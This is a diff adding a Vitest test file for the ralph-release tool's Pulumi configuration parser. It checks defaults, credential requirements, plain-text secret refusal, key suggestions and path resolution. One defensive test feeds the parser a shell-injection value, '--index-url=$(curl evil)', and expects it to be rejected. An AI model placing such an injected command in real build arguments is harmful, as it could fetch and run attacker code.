@@ -1,0 +1,204 @@
+import { mkdirSync, readFileSync } from "node:fs";
+import { resolve } from "node:path";
+import { afterAll, describe, expect, it } from "vitest";
+import { ConfigError, configTable, KEYS, parseConfig, type RawConfig } from "../../lib/config";
+import { removeTempDirs, tempDir } from "../support/gitRepo";
+
+afterAll(removeTempDirs);
+
+const source = tempDir();
+const raw = (stack: string, values: Record<string, string> = {}, secretKeys: string[] = []): RawConfig => ({
+  stack,
+  projectDir: "/nowhere",
+  values: Object.fromEntries(Object.entries({ source, ...values }).map(([k, v]) => [`ralph-release:${k}`, v])),
+  secretKeys: new Set(secretKeys.map((k) => `ralph-release:${k}`)),
+});
+
+function problemsOf(config: RawConfig): ConfigError {
+  try {
+    parseConfig(config);
+  } catch (error) {
+    if (error instanceof ConfigError) return error;
+    throw error;
+  }
+  return expect.fail("configuration was accepted");
+}
+
+describe("parseConfig", () => {
+  it("snapshot defaults: local registry, allegro namespace, ng, nothing published", () => {
+    const { settings, secrets } = parseConfig(raw("snapshot"));
+    expect(settings).toEqual({
+      mode: "snapshot",
+      source,
+      mainBranch: "ng",
+      distribution: { distro: "ubuntu", release: "jammy", name: "ubuntu/jammy" },
+      images: {
+        registry: "localhost:5000",
+        namespace: "allegro",
+        username: undefined,
+        nginxImage: "nginx:stable",
+        inkpyContext: source,
+        inkpyDockerfile: `${source}/docker/Dockerfile-inkpy`,
+      },
+      packagecloud: { repository: "allegro/ralph", url: "https://packagecloud.io" },
+      github: { repository: "allegro/ralph" },
+      publish: { deb: false, images: false, githubRelease: false },
+      deb: {
+        builder: "container",
+        baseImage: "ubuntu:jammy",
+        pythonMinimum: "3.10",
+        nodeMinimum: "22.0.0",
+        pipArgs: [],
+      },
+    });
+    expect(secrets).toEqual({ registryPassword: undefined, packagecloudToken: undefined, githubToken: undefined });
+  });
+
+  it("release defaults publish everywhere, so they need every credential", () => {
+    const error = problemsOf(raw("release"));
+    expect(error.problems.map((p) => p.key)).toEqual([
+      "ralph-release:registryUsername",
+      "ralph-release:registryPassword",
+      "ralph-release:packagecloudToken",
+      "ralph-release:githubToken",
+    ]);
+    expect(error.message).toContain("pulumi config set --stack release --secret packagecloudToken");
+  });
+
+  it("release with credentials as secrets parses, and secrets stay out of settings", () => {
+    const values = { registryPassword: "pw-123", packagecloudToken: "pc-456", githubToken: "gh-789" };
+    const { settings, secrets } = parseConfig(
+      raw("release", { ...values, registryUsername: "bot" }, Object.keys(values)),
+    );
+    expect(settings.mode).toBe("release");
+    expect(settings.images.registry).toBe("docker.io");
+    expect(JSON.stringify(settings)).not.toMatch(/pw-123|pc-456|gh-789/);
+    expect(secrets).toEqual({ registryPassword: "pw-123", packagecloudToken: "pc-456", githubToken: "gh-789" });
+  });
+
+  it("lists every problem in one error, each with key and fix, before anything else happens", () => {
+    const error = problemsOf(
+      raw("snapshot", {
+        distribution: "jammy",
+        imageNamespace: "Allegro",
+        registry: "https://docker.io",
+        publishImages: "yes",
+        mainBranch: "bad..name",
+        packagecloudUrl: "http://packagecloud.io",
+      }),
+    );
+    expect(error.problems.map((p) => p.key)).toEqual([
+      "ralph-release:distribution",
+      "ralph-release:publishImages",
+      "ralph-release:registry",
+      "ralph-release:imageNamespace",
+      "ralph-release:mainBranch",
+      "ralph-release:packagecloudUrl",
+    ]);
+    expect(error.message).toMatch(/^Configuration of stack 'snapshot' has 6 problems; nothing was built or published:/);
+    expect(error.message).toContain(
+      `ralph-release:distribution: "jammy" is not a supported distribution (ubuntu/jammy, ubuntu/noble, debian/bookworm)`,
+    );
+    expect(error.message).toContain("Fix: pulumi config set --stack snapshot distribution 'ubuntu/jammy'");
+    expect(error.message).toContain("must use https");
+  });
+
+  it("refuses a secret stored in plain text without echoing it", () => {
+    const error = problemsOf(raw("snapshot", { packagecloudToken: "leaky-token-value" }));
+    expect(error.message).toContain("ralph-release:packagecloudToken: is stored in plain text in Pulumi.snapshot.yaml");
+    expect(error.message).toContain("pulumi config set --stack snapshot --secret packagecloudToken");
+    expect(error.message).not.toContain("leaky-token-value");
+  });
+
+  it("names unknown keys and guesses the intended one", () => {
+    const error = problemsOf(raw("snapshot", { mainbranch: "ng", totallyUnrelatedSetting: "x" }));
+    expect(error.problems[0]).toMatchObject({ key: "ralph-release:mainbranch" });
+    expect(error.problems[0].fix).toContain("did you mean 'mainBranch'?");
+    expect(error.problems[1].fix).not.toContain("did you mean");
+  });
+
+  it("ignores other namespaces' keys", () => {
+    const config = raw("snapshot");
+    expect(() => parseConfig({ ...config, values: { ...config.values, "docker:host": "unix:///x" } })).not.toThrow();
+  });
+
+  it("takes the mode from the stack name, or from `mode` for other stack names", () => {
+    expect(parseConfig(raw("other", { mode: "snapshot" })).settings.mode).toBe("snapshot");
+    expect(problemsOf(raw("staging")).message).toContain(
+      "ralph-release:mode: is not set and stack 'staging' is not named after a mode",
+    );
+    expect(problemsOf(raw("staging", { mode: "prod" })).message).toContain(`"prod" is not a mode`);
+  });
+
+  it("resolves a relative source against the project and says how to fix a missing one", () => {
+    const parent = tempDir();
+    mkdirSync(`${parent}/ralph`);
+    const { settings } = parseConfig({ ...raw("snapshot"), values: {}, projectDir: `${parent}/ralph-release` });
+    expect(settings.source).toBe(`${parent}/ralph`);
+    const error = problemsOf({ ...raw("snapshot"), values: {}, projectDir: "/nonexistent/project" });
+    expect(error.message).toContain("/nonexistent/ralph does not exist");
+    expect(error.message).toContain("git clone https://github.com/allegro/ralph ../ralph");
+  });
+
+  it("needs registry credentials in pairs, and only for a non-local registry", () => {
+    expect(() => parseConfig(raw("snapshot", { publishImages: "true" }))).not.toThrow();
+    expect(problemsOf(raw("snapshot", { publishImages: "true", registry: "ghcr.io" })).problems).toHaveLength(2);
+    expect(problemsOf(raw("snapshot", { registryUsername: "bot" })).problems.map((p) => p.key)).toEqual([
+      "ralph-release:registryPassword",
+    ]);
+  });
+
+  it("accepts loopback http packagecloud URLs (contract tests) and other valid values", () => {
+    const { settings } = parseConfig(
+      raw("snapshot", {
+        packagecloudUrl: "http://127.0.0.1:8080",
+        distribution: "debian/bookworm",
+        imageNamespace: "my-org/ralph",
+        registry: "localhost:5001",
+      }),
+    );
+    expect(settings.packagecloud.url).toBe("http://127.0.0.1:8080");
+    expect(settings.distribution).toEqual({ distro: "debian", release: "bookworm", name: "debian/bookworm" });
+    expect(settings.deb.baseImage).toBe("debian:bookworm");
+  });
+});
+
+describe("deb settings", () => {
+  it("splits pipArgs, takes baseImage from config over the distribution, and refuses shell characters", () => {
+    const { settings } = parseConfig(
+      raw("snapshot", {
+        pipArgs: " --no-index  --no-build-isolation ",
+        baseImage: "localhost/debian:bookworm",
+        builder: "host",
+      }),
+    );
+    expect(settings.deb).toMatchObject({
+      pipArgs: ["--no-index", "--no-build-isolation"],
+      baseImage: "localhost/debian:bookworm",
+      builder: "host",
+    });
+    const error = problemsOf(
+      raw("snapshot", { pipArgs: "--index-url=$(curl evil)", builder: "vm", pythonMinimum: "3" }),
+    );
+    expect(error.problems.map((p) => p.key)).toEqual([
+      "ralph-release:builder",
+      "ralph-release:pythonMinimum",
+      "ralph-release:pipArgs",
+    ]);
+  });
+});
+
+describe("configTable", () => {
+  it("documents every key with its defaults", () => {
+    const table = configTable();
+    for (const key of Object.keys(KEYS)) expect(table).toContain(`| \`${key}\` |`);
+    expect(table).toContain("snapshot `localhost:5000`, release `docker.io`");
+  });
+});
+
+describe("README", () => {
+  it("carries the configuration table exactly as the schema generates it", () => {
+    const readme = readFileSync(resolve(__dirname, "../../README.md"), "utf8");
+    expect(readme).toContain(configTable());
+  });
+});
